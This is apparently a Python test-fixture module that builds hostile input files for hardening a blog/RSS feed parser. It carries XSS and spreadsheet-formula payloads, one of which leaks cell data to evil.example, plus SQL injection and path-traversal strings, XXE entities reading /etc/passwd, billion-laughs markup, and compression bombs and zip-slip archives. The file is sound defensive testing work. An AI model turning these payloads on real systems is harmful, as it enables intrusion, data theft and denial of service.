"""Inputs that mean harm: a seeded generator of files, each with a name that says what it tries.

Nothing here is stored: every file is made when it is asked for, so that no scanner finds a bomb in the repository.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import replace

from tests.feeds.blogs import SPAM, inject, make_blog
from tests.feeds.wordpress import Blog, flatten, make_rss

#: Active content: whatever of it comes out of a dump must be text.
ACTIVE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>", "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<!--<img src='--><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>",
    "<object data=https://evil.example/x.swf></object>", "<form action=https://evil.example/><input name=a></form>",
    "[x](javascript:alert(1))", "![x](https://evil.example/p.png)", "`<script>alert(1)</script>`", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "\u2028<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>",
)  # fmt: skip
#: What a spreadsheet or a terminal would run.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "＝1+1",
    "\x1b]0;owned\x07", "\x1b[2J\x1b[31mred", "abc\u202egpj.exe", "\u2066isolated\u2069", "a\rb", "name\r\nSet-Cookie: x=1",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"), "\ufeff\ufffe\uffff", "e" + "\u0301" * 500,
    "../../../etc/passwd", "C:\\Windows\\x", "%s%n%x", "'; DROP TABLE articles; --", '" OR 1=1 --', "NUL", "..",
)  # fmt: skip
#: Addresses that must never become links.
ADDRESSES = (
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "https://evil.example/\"onmouseover=alert(1)", "https://evil.example/'><script>alert(1)</script>", "//evil.example/x",
    "https://user:secret@evil.example/", "https://[::1", "https://evil.example:99999/", "http://\u202eelpmaxe/", "https://a\tb/",
    "https://evil.example/" + "a" * 9_000, "jav\tascript:alert(1)", " javascript:alert(1)", "JaVaScRiPt:alert(1)",
)  # fmt: skip


def hostile_files(seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """At least 150 files, as pairs of a name and its bytes; the same for the same seed."""
    rng = random.Random(seed)
    blog = make_blog("en", 0, 2)
    rss = make_rss(blog)
    yield from _contents(blog)
    yield from _xml(rss)
    yield from _archives(rss)
    yield from _encodings(rss, rng)
    yield from _shapes(rss, rng)


def _contents(blog: Blog) -> Iterator[tuple[str, bytes]]:
    for i, text in enumerate(ACTIVE):
        dirty = inject(blog, lambda _, title, text=text: f"{title} {text}")  # type: ignore[misc]
        dirty = replace(dirty, posts=tuple(replace(p, body=f"{p.body}<p>{text}</p>{text}") for p in dirty.posts))
        rss = make_rss(dirty)
        yield f"active-{i:02}.xml", rss.encode("utf-8", "replace")
        yield f"active-{i:02}.txt", flatten(rss).replace("</p>", f"{text}").encode("utf-8", "replace")
    for i, text in enumerate(FORMULAS):
        dirty = inject(blog, lambda _, title, text=text: f"{text} {title}")  # type: ignore[misc]
        yield f"formula-{i:02}.xml", make_rss(dirty).encode("utf-8", "replace")
    for i, url in enumerate(ADDRESSES):
        safe = url.replace("&", "&amp;").replace("<", "&lt;")
        dirty = replace(blog, posts=tuple(replace(p, url=safe, tail=f'<media:content url="{safe.replace(chr(34), "&quot;")}" medium="image"/><image><url>{safe}</url></image>') for p in blog.posts))  # fmt: skip
        yield f"address-{i:02}.xml", make_rss(dirty).encode("utf-8", "replace")


def _xml(rss: str) -> Iterator[tuple[str, bytes]]:
    head, body = rss.split("?>", 1)
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    doctypes = {
        "laughs": f'<!DOCTYPE rss [<!ENTITY l0 "lol">{laughs}]>', "quadratic": f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>',
        "external": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "network": '<!DOCTYPE rss [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
        "parameter": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>',
        "dtd": '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd">', "public": '<!DOCTYPE rss PUBLIC "-//x//y" "file:///etc/passwd">',
        "case": '<!doctype rss [<!entity x SYSTEM "file:///etc/passwd">]>', "open": "<!DOCTYPE rss [<!ENTITY",
        "attlist": '<!DOCTYPE rss [<!ATTLIST item x CDATA "y">]>', "nested": "<!DOCTYPE rss [" * 500,
    }  # fmt: skip
    for name, doctype in doctypes.items():
        uses = body.replace("The plan", "&l11;&a;&a;&x; The plan")
        yield f"xml-{name}.xml", f"{head}?>{doctype}{uses}".encode()
    pieces = {
        "deep": "<rss><channel><item>" + "<b>" * 100_000, "deep-body": rss.replace("<p>", "<div>" * 3_000, 1),
        "attributes": "<rss><channel><item " + " ".join(f'a{n}="{n}"' for n in range(20_000)) + "><title>x</title></item>",
        "cdata": "<rss><channel>" + "<![CDATA[" * 20_000, "comments": "<rss><channel>" + "<!--" * 20_000,
        "items": "<rss><channel>" + "<item>" * 20_000, "closed": "<rss><channel>" + "</item>" * 20_000,
        "entities": "<rss><channel><item><title>" + "&amp;" * 100_000 + "</title></item>", "include": rss.replace("<item>", '<item><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
        "style": '<?xml version="1.0"?><?xml-stylesheet href="http://127.0.0.1:9/x.xsl" type="text/xsl"?>' + body,
        "namespaces": "<rss " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(5_000)) + "><channel><item><title>x</title></item></channel></rss>",
        "angle": "<" * 200_000, "closing": ">" * 200_000, "ampersand": "<rss><channel><item><title>" + "&" * 100_000,
        "number": "<rss><channel><item><title>" + "&#x110000;&#0;&#xD800;" * 2_000 + "</title></item></channel></rss>",
        "wide-title": "<rss><channel><item><title>" + "x" * 2_000_000 + "</title></item></channel></rss>",
        "page": "<html><body>" + "<div>" * 50_000 + "<article>x" + "</div>" * 50_000, "tables": "<html><body>" + "<table><tr><td>" * 5_000,
        "ld": '<html><head><script type="application/ld+json">' + "[" * 100_000 + "</script></head><body>x</body></html>",
        "escaped": "<html><pre>" + "&lt;rss&gt;&lt;item&gt;" * 5_000, "meta": "<html><head>" + "<meta property='article:tag' content='x'>" * 5_000,
    }  # fmt: skip
    for name, text in pieces.items():
        yield f"markup-{name}.xml", text.encode()


def _archives(rss: str) -> Iterator[tuple[str, bytes]]:
    data = rss.encode()
    zeros = bytes(10_000_000)
    yield "bomb.gz", _gzip(zeros)
    yield "bomb-in-bomb.gz", _gzip(_gzip(zeros))
    nested = data
    for _ in range(8):
        nested = _gzip(nested)
    yield "eightfold.gz", nested
    yield "cut.gz", _gzip(data)[:-20]
    yield "head-only.gz", b"\x1f\x8b\x08"
    yield "bad-sum.gz", _gzip(data)[:-8] + bytes(8)
    yield "two-members.gz", _gzip(data) + _gzip(b"rest")
    yield "trailing.gz", _gzip(data) + b"garbage" * 50
    yield "extra-field.gz", b"\x1f\x8b\x08\x04" + bytes(6) + b"\xff\xff" + b"x" * 40
    yield "bomb.zip", _zip({"zeros": zeros})
    yield "many.zip", _zip({f"{n}.txt": b"x" for n in range(2_000)})
    yield "slip.zip", _zip({"../../up.txt": data, "/etc/cron.d/x": data, "..\\..\\win.txt": data, "C:\\x.txt": data})
    yield "names.zip", _zip({"a\nb.txt": data, "a\x1b[31m.txt": b"x", "\u202etxt.exe": b"y", "=cmd.txt": b"z", "x" * 5_000: b"w", "<script>.txt": b"v", "con": b"u", " ": b"t"})  # fmt: skip
    yield "same-names.zip", _same_names(data)
    yield "link.zip", _link()
    yield "zip-in-zip.zip", _zip({"a.zip": _zip({"b.zip": _zip({"c.zip": _zip({"d.xml": data})})})})
    whole = _zip({"a.xml": data})
    yield "cut.zip", whole[: len(whole) // 2]
    yield "no-directory.zip", whole[:-22]
    yield "wrong-size.zip", whole.replace(struct.pack("<L", len(data)), struct.pack("<L", 7))
    yield "wrong-sum.zip", whole.replace(struct.pack("<L", zlib.crc32(data)), b"\1\2\3\4")
    yield "locked.zip", _locked(whole)
    yield "empty.zip", b"PK\x05\x06" + bytes(18)
    yield "method.zip", whole.replace(b"\x08\x00", b"\x63\x00")
    yield "overlap.zip", whole + whole
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../up"), io.BytesIO())
    yield "slip.tar", tar.getvalue()
    yield "feed.bz2", bz2.compress(data)
    warc = "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: ../../../etc/x\x1b\r\nContent-Length: {}\r\n\r\n"
    yield "short.warc", (warc.format(10) + "HTTP/1.1 200 OK\r\n").encode()
    yield "long.warc", (warc.format(10**18) + "x").encode()
    yield "negative.warc", (warc.format(-5) + "x").encode()
    yield "words.warc", b"WARC/" + b"x" * 10_000
    yield (
        "chunked.warc",
        (warc.format(200) + "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFF\r\nx").encode(),
    )


def _gzip(data: bytes) -> bytes:
    """A gzip file without the time that it was made at."""
    return gzip.compress(data, mtime=0)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _same_names(data: bytes) -> bytes:
    """Two members of one name."""
    return _zip({"aa.xml": data, "bb.xml": b"other"}).replace(b"bb.xml", b"aa.xml")


def _link() -> bytes:
    """A member that says it is a link to a file outside."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("passwd.txt")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def _locked(whole: bytes) -> bytes:
    """A member that says it is encrypted."""
    data = bytearray(whole)
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _encodings(rss: str, rng: random.Random) -> Iterator[tuple[str, bytes]]:
    flat = flatten(rss)
    yield "empty.txt", b""
    yield "blank.txt", b" \n\t\r\n" * 1_000
    yield "nul.txt", bytes(100_000)
    yield "bom.txt", b"\xef\xbb\xbf"
    yield "two-boms.txt", b"\xef\xbb\xbf\xef\xbb\xbf" + flat.encode()
    yield "odd.utf16", b"\xff\xfe" + flat.encode("utf-16-le") + b"x"
    yield "half-pair.utf16", b"\xff\xfe" + flat.encode("utf-16-le") + b"\x00\xd8"
    yield "utf32.txt", flat.encode("utf-32")
    yield "utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "cp1252-as-utf8.xml", rss.replace("The plan", "L’été").encode("cp1252")
    for codec in (
        "utf-7",
        "idna",
        "rot13",
        "zip",
        "base64",
        "unicode_escape",
        "utf-16",
        "cp037",
        "nothing-at-all",
        "../x",
    ):
        declared = rss.replace('encoding="UTF-8"', f'encoding="{codec}"')
        yield f"declared-{codec.replace('/', '_')}.xml", declared.encode() + b"\xe9"
    yield "overlong.txt", b"\xc0\xbcscript\xc0\xbe" + flat.encode()
    yield "surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80" * 500 + flat.encode()
    yield "noise.bin", rng.randbytes(200_000)
    yield "elf.bin", b"\x7fELF\x02\x01\x01" + rng.randbytes(5_000)
    yield "pdf.txt", b"%PDF-1.7\n" + base64.b64encode(rng.randbytes(5_000))
    yield "sqlite.txt", b"SQLite format 3\0" + rng.randbytes(4_000)
    yield "nul-between.txt", flat.replace("a", "a\0").encode()
    yield "bidi.txt", flat.replace(" ", " \u202e\u2066").encode()
    yield "tags.txt", flat.replace(" ", " \U000e0041\u200b").encode()
    yield "form-feeds.txt", flat.replace("\n", "\x0b\x0c\x1c\x85\u2028").encode()


def _shapes(rss: str, rng: random.Random) -> Iterator[tuple[str, bytes]]:
    flat = flatten(rss)
    date = "Mon, 24 Mar 2025 12:01:02 +0000"
    big = 1_500_000
    yield "no-blank.txt", b"a" * (10 << 20)
    yield "one-line.txt", " ".join(flat.split()).encode() * 200
    yield "dates.txt", (f"{date} " * 20_000).encode()
    yield "addresses.txt", ("https://evil.example/a " * 40_000).encode()
    yield "headers.txt", (f"T https://a.example/x/ {date} https://a.example/?p=1 " * 2_000).encode()
    yield "post-numbers.txt", ("https://a.example/?p=1 " * 40_000).encode()
    yield "feeds.txt", ("https://a.example/feed/ 7 " * 40_000).encode()
    yield "long-address.txt", f"T https://a.example/{'x' * big} {date} https://a.example/?p=1 Text".encode()
    yield "long-title.txt", f"{'word ' * (big // 5)} https://a.example/x/ {date} https://a.example/?p=1 Text".encode()
    yield "colons.txt", b"://" * (big // 3)
    yield "marks.txt", b"]]>" * (big // 3)
    yield "brackets.txt", b"[" * big
    yield "ellipses.txt", "[…] ".encode() * (big // 6)
    yield "tags.html.txt", (flat + "</p>" * 100_000).encode()
    yield "moments.txt", ("https://a.example/x 2025-03-24T12:01:02Z " * 6_000).encode()
    yield "times.txt", ("T12:01:02Z" * 100_000).encode()
    yield "httpees.txt", b"http" * 200_000
    yield "digits.txt", b"9" * big
    yield "blanks.txt", b"x" + b" " * big + b"y"
    yield "lines.txt", b"\n" * big
    yield "combining.txt", (flat[:2_000] + "\u0301" * 300_000).encode()
    yield "years.txt", flat.replace("2025", "9999").encode()
    yield "year-nought.txt", flat.replace("2025", "0000").encode()
    yield "zones.txt", flat.replace("+0000", "+9999").encode()
    yield "number.txt", flat.replace("?p=", "?p=" + "9" * 5_000).encode()
    yield (
        "spam.txt",
        flatten(make_rss(inject(make_blog("en", 0, 10), lambda i, _: list(SPAM.values())[i % 8]))).encode(),
    )
    for n in range(8):
        at = rng.randrange(len(rss))
        yield f"cut-{n}.xml", rss[:at].encode()
        yield f"swapped-{n}.txt", "".join(rng.sample(flat.split("\n"), len(flat.split("\n")))).encode()
